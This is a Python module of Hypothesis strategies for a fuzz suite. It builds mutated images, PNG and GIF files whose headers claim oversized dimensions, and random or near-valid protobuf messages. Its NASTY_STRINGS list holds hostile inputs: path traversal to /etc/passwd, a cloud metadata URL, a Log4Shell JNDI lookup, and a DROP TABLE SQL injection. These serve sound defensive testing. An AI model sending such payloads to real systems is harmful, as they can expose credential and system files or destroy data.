"""Hypothesis strategies shared by the fuzz suite: hostile images, hostile strings, any protobuf message."""

from __future__ import annotations

import io
import struct
import zlib

import numpy as np
from google.protobuf.descriptor import Descriptor, FieldDescriptor
from google.protobuf.message import Message
from google.protobuf.message_factory import GetMessageClass
from hypothesis import strategies as st
from PIL import Image

# ---- images ---------------------------------------------------------------------------------------


def _encode(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def _noise(size, mode="RGB") -> Image.Image:
    rng = np.random.default_rng(sum(size) + len(mode))
    if mode == "RGBA":
        return Image.fromarray(rng.integers(0, 256, (size[1], size[0], 4), dtype=np.uint8), "RGBA")
    return Image.fromarray(rng.integers(0, 256, (size[1], size[0], 3), dtype=np.uint8), "RGB").convert(mode)


def _seeds() -> dict[str, bytes]:
    rotated = _noise((40, 24))
    exif = rotated.getexif()
    exif[0x0112] = 6  # rotate 90 on display
    palette = _noise((33, 17)).convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    palette.info["transparency"] = 3
    frames = [_noise((20, 20)), _noise((20, 20), "L").convert("RGB")]
    wide16 = Image.fromarray((np.arange(24 * 24, dtype=np.uint16).reshape(24, 24) * 97).astype(np.uint16))
    return {
        "png-rgb": _encode(_noise((24, 20)), "PNG"),
        "png-rgba": _encode(_noise((20, 20), "RGBA"), "PNG"),
        "png-palette-transparent": _encode(palette, "PNG"),
        "png-16bit": _encode(wide16, "PNG"),
        "png-1bit": _encode(_noise((30, 30)).convert("1"), "PNG"),
        "jpeg": _encode(_noise((48, 32)), "JPEG", quality=80),
        "jpeg-grey-progressive": _encode(_noise((32, 32), "L"), "JPEG", progressive=True),
        "jpeg-cmyk": _encode(_noise((24, 24)).convert("CMYK"), "JPEG"),
        "jpeg-exif-rotated": _encode(rotated, "JPEG", exif=exif),
        "gif-animated": _encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=50, loop=0),
        "webp-alpha": _encode(_noise((20, 20), "RGBA"), "WEBP", lossless=True),
        "bmp": _encode(_noise((16, 16)), "BMP"),
        "tiff": _encode(_noise((16, 16)), "TIFF"),
    }


IMAGE_SEEDS = _seeds()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def lying_png(width: int, height: int, payload: bytes = b"\x00" * 64) -> bytes:
    """A PNG whose header claims width x height (1-bit greyscale) over a small compressed body."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", zlib.compress(payload)) + _png_chunk(b"IEND", b"")


def lying_gif(width: int, height: int) -> bytes:
    body = bytearray(IMAGE_SEEDS["gif-animated"])
    body[6:10] = struct.pack("<HH", width, height)  # logical screen size
    return bytes(body)


@st.composite
def mutated_images(draw) -> bytes:
    """A valid image of some format and mode with flipped bytes, an insertion and a cut."""
    data = bytearray(IMAGE_SEEDS[draw(st.sampled_from(sorted(IMAGE_SEEDS)))])
    for _ in range(draw(st.integers(0, 6))):
        data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
    if draw(st.booleans()):
        at = draw(st.integers(0, len(data)))
        data[at:at] = draw(st.binary(min_size=1, max_size=64))
    if draw(st.booleans()):
        data = data[: draw(st.integers(0, len(data)))]
    return bytes(data)


hostile_images = st.one_of(
    st.binary(max_size=2048),
    mutated_images(),
    st.builds(lying_png, st.integers(0, 2**31 - 1), st.integers(0, 2**31 - 1)),
    st.builds(lying_gif, st.integers(0, 65535), st.integers(0, 65535)),
)

# ---- strings and numbers --------------------------------------------------------------------------

NASTY_STRINGS = (
    "",
    " ",
    "..",
    "../../etc/passwd",
    "a/../../b",
    "s3://iex/../../other-bucket/x",
    "s3://",
    "s3:///",
    "s3://iex",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "\x00",
    "a\x00b",
    "%2e%2e%2f",
    "${jndi:ldap://example.invalid/a}",
    "'; DROP TABLE explorations; --",
    "ünïcødé",
    "\u202etxt.exe",
    "🙂" * 40,
    "\ud7ff\ue000",
    "a" * 129,
    "a" * 5000,
    "-1",
    "NaN",
    "9" * 40,
    "0" * 64,
    "f" * 64,
    "G" * 64,
)


def text_values() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(NASTY_STRINGS), st.text(max_size=40), st.from_regex(r"[A-Za-z0-9._-]{1,20}", fullmatch=True))


_INT_RANGES = {
    FieldDescriptor.TYPE_INT32: (-(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_SINT32: (-(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_SFIXED32: (-(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_INT64: (-(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_SINT64: (-(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_SFIXED64: (-(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_UINT32: (0, 2**32 - 1),
    FieldDescriptor.TYPE_FIXED32: (0, 2**32 - 1),
    FieldDescriptor.TYPE_UINT64: (0, 2**64 - 1),
    FieldDescriptor.TYPE_FIXED64: (0, 2**64 - 1),
}


def _integers(low: int, high: int) -> st.SearchStrategy[int]:
    edges = [v for v in (low, -1, 0, 1, 2, 100, 10_000, 2**31 - 1, high) if low <= v <= high]
    return st.one_of(st.sampled_from(edges), st.integers(max(low, -1000), min(high, 100_000)), st.integers(low, high))


def _scalar(field: FieldDescriptor) -> st.SearchStrategy:
    kind = field.type
    if kind == FieldDescriptor.TYPE_STRING:
        return text_values()
    if kind == FieldDescriptor.TYPE_BYTES:
        return st.one_of(st.binary(max_size=256), hostile_images)
    if kind == FieldDescriptor.TYPE_BOOL:
        return st.booleans()
    if kind in (FieldDescriptor.TYPE_FLOAT, FieldDescriptor.TYPE_DOUBLE):
        width = 32 if kind == FieldDescriptor.TYPE_FLOAT else 64
        return st.floats(width=width, allow_nan=True, allow_infinity=True)
    if kind == FieldDescriptor.TYPE_ENUM:
        # proto3 enums are open: unknown numbers arrive as they are.
        return st.one_of(st.sampled_from([v.number for v in field.enum_type.values]), st.integers(-3, 50))
    if kind in _INT_RANGES:
        return _integers(*_INT_RANGES[kind])
    raise NotImplementedError(f"no strategy for field type {kind} ({field.full_name})")


def messages(descriptor: Descriptor, depth: int = 0) -> st.SearchStrategy[Message]:
    """Any instance of the message type: every field independently absent or hostile, nested to depth 3."""
    cls = GetMessageClass(descriptor)
    fields = [f for f in descriptor.fields if not (f.message_type is not None and depth >= 3)]

    @st.composite
    def build(draw) -> Message:
        message = cls()
        for field in fields:
            if not draw(st.booleans()):
                continue
            if field.message_type is not None and field.message_type.GetOptions().map_entry:
                key_field, value_field = field.message_type.fields_by_name["key"], field.message_type.fields_by_name["value"]
                entries = draw(st.dictionaries(_scalar(key_field), _value(value_field, depth), max_size=4))
                target = getattr(message, field.name)
                for k, v in entries.items():
                    if value_field.message_type is not None:
                        target[k].CopyFrom(v)
                    else:
                        target[k] = v
            elif field.is_repeated:
                values = draw(st.lists(_value(field, depth), max_size=4))
                target = getattr(message, field.name)
                if field.message_type is not None:
                    for v in values:
                        target.add().CopyFrom(v)
                else:
                    target.extend(values)
            elif field.message_type is not None:
                getattr(message, field.name).CopyFrom(draw(messages(field.message_type, depth + 1)))
            else:
                setattr(message, field.name, draw(_scalar(field)))
        return message

    return build()


def _value(field: FieldDescriptor, depth: int) -> st.SearchStrategy:
    if field.message_type is not None:
        return messages(field.message_type, depth + 1)
    return _scalar(field)


def near(template: Message) -> st.SearchStrategy[Message]:
    """The template with one or two of its fields (at any depth) replaced by hostile values.

    Fully random messages mostly stop at the first validation; these get past it and reach the
    code behind (object-store keys, publishing, model lookups) with one thing wrong at a time.
    """
    descriptor = template.DESCRIPTOR
    cls = GetMessageClass(descriptor)
    fields = list(descriptor.fields)

    @st.composite
    def build(draw) -> Message:
        message = cls()
        message.CopyFrom(template)
        if not fields:
            return message
        for field in draw(st.lists(st.sampled_from(fields), min_size=1, max_size=2, unique_by=lambda f: f.number)):
            nested = field.message_type is not None and not field.is_repeated and template.HasField(field.name)
            if nested and draw(st.booleans()):
                getattr(message, field.name).CopyFrom(draw(near(getattr(template, field.name))))
                continue
            donor = draw(messages(descriptor))
            part = cls()
            part.CopyFrom(donor)
            for other in fields:
                if other.number != field.number:
                    part.ClearField(other.name)
            message.ClearField(field.name)
            message.MergeFrom(part)
        return message

    return build()
